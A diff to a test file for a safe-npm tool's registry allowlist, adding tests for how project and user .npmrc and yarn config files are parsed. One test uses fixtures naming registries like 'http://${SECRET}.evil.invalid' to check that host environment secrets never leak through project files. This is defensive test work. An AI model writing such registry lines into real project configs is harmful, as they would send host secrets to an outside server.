@@ -3,11 +3,14 @@ import { SafeNpmError } from "../../../src/errors.js";
 import {
   type AllowEntry,
   canonicalHost,
+  dedupeAllowlist,
   formatAllowEntry,
   isAllowed,
   parseAllowEntry,
   parseAllowlist,
+  projectOnlyEntry,
   registriesFromConfig,
+  settleProjectOnly,
   tryParseAllowEntry,
 } from "../../../src/network/allowlist.js";
 
@@ -238,12 +241,59 @@ describe("registriesFromConfig", () => {
     ).toEqual(["r.example.com:8443", "plain.example:80", "secure.example:443", "[::1]:4873"]);
   });
 
-  it("expands $VAR references and skips URLs with unresolved ones", () => {
-    const projectNpmrc = `registry=\${REG}\n@a:registry=\${MISSING}/x\n`;
+  it("expands $VAR references in the user's npmrc and skips URLs with unresolved ones", () => {
+    const userNpmrc = `registry=\${REG}\n@a:registry=\${MISSING}/x\n`;
     expect(
-      targets(registriesFromConfig({ projectNpmrc, env: { REG: "https://mirror.example/" } })),
+      targets(registriesFromConfig({ userNpmrc, env: { REG: "https://mirror.example/" } })),
     ).toEqual(["mirror.example:443"]);
-    expect(targets(registriesFromConfig({ projectNpmrc }))).toEqual(["registry.npmjs.org:443"]);
+    expect(targets(registriesFromConfig({ userNpmrc }))).toEqual(["registry.npmjs.org:443"]);
+  });
+
+  it("never expands the host's environment in the project's files: the value would leak into logs and the certificate cache", () => {
+    const env = { SECRET: "topsecretvalue123", REG: "https://mirror.example/" };
+    const entries = registriesFromConfig({
+      projectNpmrc: `@evil:registry=http://\${SECRET}.evil.invalid:4801/\nregistry=\${REG}\n`,
+      yarnrcYml: `npmRegistryServer: "https://\${SECRET}.evil.invalid"\n`,
+      yarnrc: `registry "https://\${SECRET}.evil.invalid"\n`,
+      env,
+    });
+    expect(JSON.stringify(entries)).not.toContain("topsecretvalue123");
+    expect(targets(entries)).toEqual(["registry.npmjs.org:443"]);
+  });
+
+  it("marks registries only the project's files name; the user's naming or an allow entry lifts it", () => {
+    const projectNpmrc = "registry=http://127.0.0.1:4801/\n@evil:registry=http://127.0.0.1:4802/\n";
+    const projectOnly = (entries: AllowEntry[]) =>
+      entries.filter((e) => e.projectOnly === true).map(formatAllowEntry);
+    expect(projectOnly(settleProjectOnly(registriesFromConfig({ projectNpmrc })))).toEqual([
+      "127.0.0.1:4801",
+      "127.0.0.1:4802",
+    ]);
+    const userNpmrc = "registry=http://127.0.0.1:4801/\n";
+    expect(
+      projectOnly(settleProjectOnly(registriesFromConfig({ projectNpmrc, userNpmrc }))),
+    ).toEqual(["127.0.0.1:4802"]);
+    const allowed = settleProjectOnly(
+      dedupeAllowlist([
+        ...registriesFromConfig({
+          projectNpmrc,
+          yarnrcYml: 'npmRegistryServer: "https://r.example"',
+        }),
+        ...parseAllowlist(["127.0.0.1:4802"], "network.allow / --allow-host"),
+      ]),
+    );
+    expect(projectOnly(allowed)).toEqual(["127.0.0.1:4801", "r.example:443"]);
+    expect(projectOnlyEntry(allowed, "127.0.0.1", 4801)?.source).toBe("project .npmrc registry");
+    expect(projectOnlyEntry(allowed, "127.0.0.1", 4802)).toBeUndefined();
+    // yarn berry's user file names it too.
+    const berry = settleProjectOnly(
+      registriesFromConfig({
+        yarnrcYml: 'npmRegistryServer: "http://127.0.0.1:4801"',
+        userYarnrcYml: 'npmRegistryServer: "http://127.0.0.1:4801"',
+        yarn: true,
+      }),
+    );
+    expect(projectOnly(berry)).toEqual([]);
   });
 
   it("ignores keys inside ini sections and malformed URLs", () => {
